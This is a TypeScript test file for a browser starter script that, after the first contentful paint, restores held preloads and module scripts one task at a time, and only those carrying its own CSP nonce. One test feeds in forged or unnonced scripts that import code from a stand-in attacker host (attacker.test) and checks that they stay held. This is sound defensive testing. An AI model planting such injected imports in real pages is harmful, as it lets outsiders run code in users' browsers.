// The starter run as a browser would run it, against a small stand-in DOM: it waits for the first contentful paint,
// restores the held preloads in document order and then the module script, and does each restore in a task of its
// own (so no single task after the first paint does them all). It restores only elements that carry its own nonce
// (this reply's): a held script without it, or with another, stays held and never runs.
import { describe, expect, it } from "vitest";
import { HELD_MODULE_TYPE, HELD_PRELOAD_REL, START_AFTER_PAINT } from "./scripts-after-first-paint";

const NONCE = "n1";

interface StandInOptions {
  /** The nonce of each held preload, in document order. */
  preloads?: string[];
  /** The nonce and text of each held module script, in document order. */
  scripts?: { nonce: string; text: string }[];
  /** The starter's own nonce, as `document.currentScript.nonce` gives it. */
  starterNonce?: string;
}

function standInPage({
  preloads = [NONCE, NONCE, NONCE],
  scripts = [{ nonce: NONCE, text: 'import("/assets/entry.js")' }],
  starterNonce = NONCE,
}: StandInOptions = {}) {
  const log: string[] = [];
  let paintObserver:
    | ((list: { getEntriesByName(name: string): unknown[] }, observer: { disconnect(): void }) => void)
    | undefined;
  const links = preloads.map((nonce, i) => ({
    nonce,
    set rel(value: string) {
      log.push(`rel ${i} ${value}`);
    },
  }));
  const heldScripts = scripts.map(({ nonce, text }) => ({
    nonce,
    textContent: text,
    replaceWith(script: { type: string; nonce: string; textContent: string }) {
      log.push(`script ${script.type} ${script.nonce} ${script.textContent}`);
    },
  }));
  const document = {
    currentScript: { nonce: starterNonce },
    visibilityState: "hidden",
    addEventListener() {},
    createElement: () => ({ type: "", nonce: "", textContent: "" }),
    querySelectorAll(selector: string) {
      if (selector === `link[rel="${HELD_PRELOAD_REL}"]`) return links;
      if (selector === `script[type="${HELD_MODULE_TYPE}"]`) return heldScripts;
      return [];
    },
  };
  class PerformanceObserver {
    static supportedEntryTypes = ["paint"];
    constructor(callback: typeof paintObserver) {
      paintObserver = callback;
    }
    observe() {}
  }
  const window = { PerformanceObserver };
  new Function("window", "document", "setTimeout", "requestAnimationFrame", START_AFTER_PAINT)(
    window,
    document,
    () => {},
    () => {},
  );
  const paint = () =>
    paintObserver?.(
      { getEntriesByName: (name) => (name === "first-contentful-paint" ? [{}] : []) },
      { disconnect() {} },
    );
  return { log, paint, observing: () => paintObserver !== undefined };
}

/** Resolves after the MessageChannel turns already queued (and those they queue) have run. */
const settle = () => new Promise((resolve) => setTimeout(resolve, 20));

describe("the starter", () => {
  it("does nothing before the first contentful paint", async () => {
    const { log } = standInPage();
    await settle();
    expect(log).toEqual([]);
  });

  it("restores the preloads in order, then the module script, one per task", async () => {
    const { log, paint } = standInPage();
    paint();
    // Only the first restore runs in the paint observer's own task.
    expect(log).toEqual(["rel 0 modulepreload"]);
    await settle();
    expect(log).toEqual([
      "rel 0 modulepreload",
      "rel 1 modulepreload",
      "rel 2 modulepreload",
      'script module n1 import("/assets/entry.js")',
    ]);
  });

  it("starts once, even when the paint is reported again", async () => {
    const { log, paint } = standInPage({ preloads: [NONCE] });
    paint();
    paint();
    await settle();
    expect(log).toHaveLength(2);
  });

  it("leaves a held script without the nonce, or with another one, held; the page's own still runs", async () => {
    const { log, paint } = standInPage({
      preloads: [NONCE, "", "forged"],
      scripts: [
        { nonce: "", text: 'import("https://attacker.test/a.js")' },
        { nonce: NONCE, text: 'import("/assets/entry.js")' },
        { nonce: "forged", text: 'import("https://attacker.test/b.js")' },
      ],
    });
    paint();
    await settle();
    expect(log).toEqual(["rel 0 modulepreload", 'script module n1 import("/assets/entry.js")']);
  });

  it("restores nothing, and waits for no paint, when it has no nonce of its own", async () => {
    const { log, paint, observing } = standInPage({
      starterNonce: "",
      preloads: ["", ""],
      scripts: [{ nonce: "", text: "x" }],
    });
    expect(observing()).toBe(false);
    paint();
    await settle();
    expect(log).toEqual([]);
  });
});
